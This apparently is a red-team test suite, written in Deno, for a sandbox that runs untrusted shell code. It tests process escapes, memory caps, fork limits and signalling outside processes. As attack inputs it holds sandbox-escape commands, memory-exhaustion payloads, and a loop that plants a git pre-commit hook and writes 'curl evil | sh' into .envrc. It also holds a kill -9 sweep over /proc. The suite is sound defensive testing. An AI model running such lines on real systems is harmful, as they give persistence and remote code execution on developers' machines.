/**
 * Red team, processes: a run's processes that leave its process group
 * (setsid, double fork) must die with the run, whether it timed out or ended;
 * they must not write control files after the clean-up; the memory cap must
 * hold for them, for memory files (memfd) and for in-memory temp folders;
 * the number of processes a run starts is bounded; and a run cannot signal
 * a process outside.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { eventually } from "./_helpers.ts";
import {
  assertRan,
  ENABLED,
  processesWith,
  redteam,
} from "./_redteam_harness.ts";
import type { Arena } from "./_redteam_harness.ts";
import { probe } from "./_redteam_probe.ts";

const PROBE = ENABLED ? await probe() : undefined;

function escapers(token: string): string {
  return [
    `setsid bash -c 'exec -a ${token}-setsid sleep 300' </dev/null >/dev/null 2>&1 &`,
    `( setsid bash -c 'exec -a ${token}-double sleep 300' </dev/null >/dev/null 2>&1 & )`,
    `( trap '' TERM HUP; exec -a ${token}-noterm sleep 300 ) </dev/null >/dev/null 2>&1 &`,
  ].join("\n");
}

async function assertNoneLeft(arena: Arena, detail: unknown): Promise<void> {
  const gone = await eventually(
    () => processesWith(arena.token).length === 0,
    5_000,
  );
  assert.ok(
    gone,
    `still alive after the run returned: ${
      processesWith(arena.token).map((pid) =>
        Deno.readTextFileSync(`/proc/${pid}/cmdline`).replaceAll("\0", " ")
      ).join(", ")
    } ${JSON.stringify(detail)}`,
  );
}

async function exists(path: string): Promise<boolean> {
  return await Deno.lstat(path).then(() => true, () => false);
}

redteam(
  "no process of a run that timed out is alive once the run returns",
  async (arena) => {
    const { results } = await arena.attack({
      runs: [{
        language: "shell",
        timeoutMs: 3_000,
        code: `echo ran\n${escapers(arena.token)}\nsleep 120`,
      }],
    });
    assertRan(results[0]);
    assert.equal(results[0]!.timedOut, true);
    await assertNoneLeft(arena, results);
  },
);

redteam(
  "no process of a run that ended is alive once the run returns",
  async (arena) => {
    const { results } = await arena.attack({
      runs: [{
        language: "shell",
        code: `echo ran\n${escapers(arena.token)}\nsleep 1`,
      }],
    });
    assertRan(results[0]);
    await assertNoneLeft(arena, results);
  },
);

redteam(
  "a process that left the run cannot plant control files after the clean-up",
  async (arena) => {
    const { results } = await arena.attack({
      setup: "git init -q .",
      runs: [{
        language: "shell",
        code:
          `echo ran; setsid bash -c 'for i in $(seq 100); do printf "#!/bin/sh\\ntouch PWNED\\n" > .git/hooks/pre-commit 2>/dev/null; chmod +x .git/hooks/pre-commit 2>/dev/null; echo "curl evil | sh" > .envrc 2>/dev/null; sleep 0.1; done' ${arena.token} </dev/null >/dev/null 2>&1 &
while [ ! -e .envrc ]; do sleep 0.05; done`,
      }],
    });
    assertRan(results[0]);
    const gone = await eventually(
      () => processesWith(arena.token).length === 0,
      5_000,
    );
    const planted = [
      await exists(join(arena.project, ".git/hooks/pre-commit")),
      await exists(join(arena.project, ".envrc")),
    ];
    assert.ok(
      gone && !planted.includes(true),
      `survivor alive: ${!gone}, pre-commit and .envrc planted: ${planted}`,
    );
  },
);

redteam(
  "a double-forked child cannot hold 400 MB under a 128 MB cap",
  async (arena) => {
    const { results } = await arena.attack({
      runs: [{
        language: "shell",
        maxMemoryMb: 128,
        timeoutMs: 30_000,
        code:
          `echo ran; ( setsid perl -e '$x = "a" x (400*1024*1024); open my $f, ">", "allocated"; close $f; sleep 60' ${arena.token} </dev/null >/dev/null 2>&1 & )
i=0; while [ ! -e allocated ] && [ $i -lt 300 ]; do sleep 0.05; i=$((i+1)); done; sleep 1; echo survived`,
      }],
    });
    assertRan(results[0]);
    const held = /survived/.test(results[0]!.stdout) &&
      await exists(join(arena.project, "allocated"));
    assert.ok(results[0]!.outOfMemory || !held, JSON.stringify(results[0]));
    await assertNoneLeft(arena, results);
  },
);

redteam(
  "memory in a memfd counts against the cap",
  async (arena) => {
    const { results } = await arena.attack({
      runs: [{
        language: "shell",
        maxMemoryMb: 128,
        code: `echo ran; python3 -c 'import os,time
fd = os.memfd_create("x")
chunk = b"a" * (1 << 20)
for _ in range(300): os.write(fd, chunk)
open("allocated", "w").close(); time.sleep(2); print("survived")'`,
      }],
    });
    assertRan(results[0]);
    const held = /survived/.test(results[0]!.stdout);
    assert.ok(results[0]!.outOfMemory || !held, JSON.stringify(results[0]));
  },
);

for (const folder of ["/var/tmp", "/dev/shm", "$TMPDIR"]) {
  redteam(
    `files in ${folder} count against the memory cap`,
    async (arena) => {
      const { results } = await arena.attack({
        runs: [{
          language: "shell",
          maxMemoryMb: 128,
          code:
            // A folder on disk holds no memory: only a file system in memory (tmpfs) is an attack on the cap.
            `echo ran; [ "$(stat -f -c %T ${folder} 2>/dev/null)" = tmpfs ] || { echo on-disk; exit 0; }; head -c 300M /dev/zero > ${folder}/fill 2>/dev/null && [ "$(stat -c %s ${folder}/fill)" = 314572800 ] && sleep 1 && echo survived; rm -f ${folder}/fill`,
        }],
      });
      assertRan(results[0]);
      const held = /survived/.test(results[0]!.stdout);
      assert.ok(results[0]!.outOfMemory || !held, JSON.stringify(results[0]));
    },
  );
}

redteam(
  "memory held in the temp dir and by a process together stays under the cap",
  async (arena) => {
    const { results } = await arena.attack({
      runs: [{
        language: "shell",
        maxMemoryMb: 128,
        code:
          `echo ran; [ "$(stat -f -c %T "$TMPDIR")" = tmpfs ] || { echo on-disk; exit 0; }; head -c 80M /dev/zero > "$TMPDIR/fill" && python3 -c 'import time; x = b"a" * (80 << 20); time.sleep(2); print("survived")'`,
      }],
    });
    assertRan(results[0]);
    const held = /survived/.test(results[0]!.stdout);
    assert.ok(results[0]!.outOfMemory || !held, JSON.stringify(results[0]));
  },
);

redteam(
  "a run cannot start 1,000 processes",
  async (arena) => {
    const { results } = await arena.attack({
      setup: `cp ${PROBE} ./probe`,
      runs: [{ language: "shell", code: "echo ran; ./probe forks 1000" }],
    });
    assertRan(results[0]);
    const started = /started=(\d+)/.exec(results[0]!.stdout)?.[1];
    assert.ok(
      results[0]!.outOfMemory ||
        (started !== undefined && Number(started) < 1000),
      `started ${started}: ${JSON.stringify(results[0])}`,
    );
  },
  { skip: () => PROBE ? undefined : "no C compiler to build the probe" },
);

redteam(
  "a run cannot kill a process of its user outside the sandbox",
  async (arena) => {
    const { results } = await arena.attack({
      setup:
        `bash -c 'exec -a ${arena.token}-victim sleep 300' </dev/null >/dev/null 2>&1 &`,
      runs: [{
        language: "shell",
        code: `echo ran; v=${arena.token.slice(0, 4)}; v="$v${
          arena.token.slice(4)
        }-victim"; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q "^$v" && kill -9 \${p#/proc/} 2>/dev/null && echo killed; done; true`,
      }],
    });
    assertRan(results[0]);
    assert.equal(
      processesWith(`${arena.token}-victim`).length,
      1,
      JSON.stringify(results),
    );
  },
);
